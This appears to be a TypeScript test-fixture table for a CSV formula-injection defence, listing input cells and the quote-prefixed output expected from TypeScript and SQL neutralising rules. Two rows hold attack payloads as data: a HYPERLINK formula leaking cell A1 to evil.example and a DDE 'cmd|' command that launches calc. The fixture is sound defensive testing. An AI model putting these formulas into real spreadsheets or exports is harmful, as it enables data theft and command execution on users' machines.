/**
 * The one table of cases for CSV formula neutralising: the TypeScript rule (server/csv/cell.ts) and
 * the SQL rule (povmap.csv_cell) must both turn each input into its expected cell.
 */
export const CSV_CELL_CASES: ReadonlyArray<readonly [input: string, expected: string]> = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
  ['=1+2', `'=1+2`],
  ['+66 81 234 5678', `'+66 81 234 5678`],
  ['+1', `'+1`],
  ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
  ['@SUM(1,2)', `'@SUM(1,2)`],
  ['\t=1', `'\t=1`],
  ['\r=1', `'\r=1`],
  ['=…', `'=…`],
  ['-', `'-`],
  ['-1-1', `'-1-1`],
  ['-12abc', `'-12abc`],
  ['-Infinity', `'-Infinity`],
  ['- 5', `'- 5`],
  ['-12', '-12'],
  ['-0.5', '-0.5'],
  ['-100.25', '-100.25'],
  ['-1.5e-05', '-1.5e-05'],
  ['-2E+10', '-2E+10'],
  ['12', '12'],
  ['100.5', '100.5'],
  ['นางส… พ…', 'นางส… พ…'],
  ['X-XXXX-XXXXX-89-3', 'X-XXXX-XXXXX-89-3'],
  ['a=b', 'a=b'],
  [' =1', ' =1'],
  ["'=already quoted", "'=already quoted"],
  ['', ''],
];
